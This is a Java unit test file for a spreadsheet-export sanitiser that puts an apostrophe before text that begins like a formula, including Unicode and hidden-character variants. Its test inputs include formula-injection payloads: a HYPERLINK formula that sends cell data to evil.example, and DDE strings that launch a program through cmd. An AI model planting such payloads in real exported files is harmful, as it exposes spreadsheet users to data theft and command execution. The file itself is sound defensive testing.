package dev.ledgerless.export;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class SpreadsheetTextTests {

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Refund\")", "=cmd|' /C calc'!A0",
			"+1-555-0100", "-2+3", "- - -", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\tplain",
			"\rplain", "\nplain", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(1)", "=", "-" })
	void givenATextThatBeginsLikeAFormulaThenAnApostropheStandsBeforeIt(String text) {
		assertThat(SpreadsheetText.defused(text)).isEqualTo("'" + text);
	}

	@ParameterizedTest
	@ValueSource(strings = { " =1+1", "\u00A0=1+1", "\u3000\uFF1D1+1", "\u200B=1+1", "\uFEFF=1+1", "\u202E=1+1",
			"\u0000=1+1", " \t @SUM(1)" })
	void givenAFormulaBehindWhatASpreadsheetMaySkipThenAnApostropheStandsBeforeIt(String text) {
		assertThat(SpreadsheetText.defused(text)).isEqualTo("'" + text);
	}

	@ParameterizedTest
	@ValueSource(strings = { "", " ", "Coffee", "Coffee = good", "A-1 Auto", "me@example.org", "1+1", "'quoted'",
			"\"quoted\"", "  Coffee", "#1 Deli", "%", "👩‍👩‍👧 Toys", "متجر", "‎שלום", "Über – \u2212 Café" })
	void givenAnyOtherTextThenItStaysAsItIs(String text) {
		assertThat(SpreadsheetText.defused(text)).isEqualTo(text);
	}

	@Test
	void givenNoTextThenThereIsNone() {
		assertThat(SpreadsheetText.defused(null)).isNull();
	}

}
